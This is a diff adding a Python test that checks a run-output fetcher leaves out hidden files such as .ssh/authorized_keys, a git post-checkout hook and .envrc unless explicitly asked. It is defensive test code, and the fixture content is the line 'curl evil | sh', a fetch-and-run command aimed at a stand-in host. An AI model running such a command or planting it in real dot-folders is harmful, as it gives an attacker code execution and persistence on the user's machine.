@@ -62,6 +62,22 @@ def test_every_output_comes_back_under_its_own_name(folder: RunFolder, world: Ow
     assert stat.S_IMODE((out / "checkpoints").stat().st_mode) == 0o700
 
 
+def test_a_script_puts_nothing_into_dot_folders_of_its_owner_unasked(world: OwnersWorld, tmp_path: Path) -> None:
+    for name in (".ssh/authorized_keys", "model/.git/hooks/post-checkout", ".envrc"):
+        world.files[name] = ("output", "file", b"curl evil | sh")
+    folder = world.settle(tmp_path)
+    world.tell(folder, world.run())
+    receipt, out = receipt_of(folder, world), tmp_path / "fetched"
+    found = fetch(folder, receipt, sealing=world.owner_hpke, out=out, force=False)
+    left_out = {one.name for one in found if one.path is None}
+    assert left_out == {".ssh/authorized_keys", "model/.git/hooks/post-checkout", ".envrc"}
+    assert not [path for path in out.rglob("*") if path.name.startswith(".")]
+    assert (out / "metrics.json").is_file()
+    asked = fetch(folder, receipt, sealing=world.owner_hpke, out=tmp_path / "all", force=False, hidden=True)
+    assert all(one.path is not None for one in asked)
+    assert (tmp_path / "all" / "model" / ".git" / "hooks" / "post-checkout").read_bytes() == b"curl evil | sh"
+
+
 def test_the_hosts_folder_shows_no_names(folder: RunFolder, world: OwnersWorld) -> None:
     kept = b"".join(path.read_bytes() for path in folder.out.rglob("*") if path.is_file())
     for name in world.files:
